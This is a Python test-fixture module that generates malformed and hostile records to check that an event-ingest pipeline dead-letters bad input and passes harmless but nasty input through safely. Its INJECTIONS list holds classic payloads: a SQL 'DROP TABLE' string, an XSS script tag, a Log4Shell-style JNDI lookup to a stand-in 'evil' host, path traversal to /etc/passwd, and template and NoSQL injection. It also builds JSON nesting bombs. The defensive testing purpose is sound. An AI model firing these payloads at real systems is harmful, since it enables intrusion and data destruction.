"""Malformed and malicious raw records, as broken or hostile source systems send them.

Every variant is deterministic for an rng; `hostile_record` returns (key, value). Most must be
dead-lettered; some are valid but nasty (injection strings, odd Unicode, extreme but legal
numbers) and must flow through as ordinary signals without hurting anything downstream.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from typing import Any

INJECTIONS = (
    "x'; DROP TABLE accounts; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/a}",
    "../../etc/passwd",
    "%00%27",
    "{{7*7}}",
    "\u202eevil\u202c",  # right-to-left override
    "zero\u200bwidth",
    "\U0001f4a5 emoji",
)


def _dumps(event: Any) -> bytes:
    return json.dumps(event).encode()  # stdlib: it writes integers of any size


Variant = Callable[[random.Random, dict[str, Any]], bytes]


def _variants() -> list[Variant]:
    def field(name: str, value: Any) -> Variant:
        return lambda rng, e: _dumps({**e, name: value})

    return [
        lambda rng, e: _dumps(e)[: rng.randrange(1, 40)],  # truncated
        lambda rng, e: b"\xff\xfe\xfd" + _dumps(e),  # not UTF-8
        lambda rng, e: b"\xc3\x28" * 10,  # invalid UTF-8 sequence
        lambda rng, e: b"",  # empty
        lambda rng, e: b"null",
        lambda rng, e: b"[1,2,3]",
        lambda rng, e: b'"just a string"',
        lambda rng, e: b"[" * 100_000 + b"]" * 100_000,  # nesting bomb
        lambda rng, e: b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
        lambda rng, e: _dumps({**e, "padding": "x" * 300_000}),  # over the size limit
        lambda rng, e: b'{"type": NaN}',
        lambda rng, e: _dumps({k: v for k, v in e.items() if k != "account_id"}),
        field("account_id", ""),
        field("account_id", "   "),
        field("account_id", "a" * 129),  # longer than any identifier may be
        field("account_id", "acc\u0000nul"),  # NUL: PostgreSQL text cannot hold it
        field("account_id", "line\nbreak"),
        field("account_id", 12345),
        field("account_id", None),
        field("account_id", {"$ne": None}),  # NoSQL-style injection object
        field("event_id", "e\u0000"),
        field("type", "mystery_event"),
        field("type", None),
        field("type", "session_started\u0000"),
        field("schema_version", 99),
        field("schema_version", "1"),
        field("schema_version", True),
        field("occurred_at", "2999-01-01T00:00:00+00:00"),
        field("occurred_at", "1970-01-01T00:00:00+00:00"),
        field("occurred_at", "yesterday"),
        field("occurred_at", "2026-01-01T00:00:00"),  # no time zone
        field("occurred_at", 1_700_000_000),
        field("occurred_at", "9999-12-31T23:59:59.999999-23:59"),
        field("count", 10**30),
        field("count", -5),
        field("count", "five"),
        field("duration_seconds", 1e308),
        field("seats_in_use", -1),
        field("priority", "apocalyptic"),
        field("rating", 6),
        field("score", 11),
        field("amount", "1e400"),
        field("amount", "-10.00"),
        field("currency", "DOLLARS"),
        field("text", "x" * 25_000),
        _nul_in_a_text_field,
    ]


# Every event type's free-text and attribute fields (those a valid event of the type carries
# as strings), besides the envelope's identifiers that the variants above cover.
_NOT_TEXT = frozenset({"type", "occurred_at", "schema_version"})


def _nul_in_a_text_field(rng: random.Random, event: dict[str, Any]) -> bytes:
    """A NUL character inside one of the event's string fields, chosen at random: PostgreSQL
    cannot hold it in text, so ingest must refuse it."""
    names = sorted(k for k, v in event.items() if isinstance(v, str) and k not in _NOT_TEXT)
    name = rng.choice(names)
    value = event[name]
    cut = rng.randrange(len(value) + 1)
    return _dumps({**event, name: value[:cut] + "\u0000" + value[cut:]})


def _nasty_but_valid(rng: random.Random, event: dict[str, Any]) -> bytes:
    """Legal events carrying hostile strings: they must become ordinary signals."""
    injection = rng.choice(INJECTIONS)
    variant = rng.randrange(3)
    if variant == 0:
        return _dumps({**event, "account_id": f"hostile-{injection}"})
    if variant == 1:
        return _dumps({**event, "event_id": f"{event['event_id']}-{injection}"})
    return _dumps({**event, "unexpected_field": injection, "text": injection})


VARIANTS = _variants()


def hostile_record(rng: random.Random, event: dict[str, Any]) -> tuple[bytes | None, bytes]:
    """A broken or malicious variant of a valid raw `event` (10% of them valid but nasty)."""
    nasty = rng.random() < 0.1
    value = _nasty_but_valid(rng, event) if nasty else rng.choice(VARIANTS)(rng, event)
    key_choice = rng.randrange(4)
    key = {0: None, 1: b"", 2: b"\x00\xff" * 8}.get(key_choice, event["account_id"].encode())
    return key, value
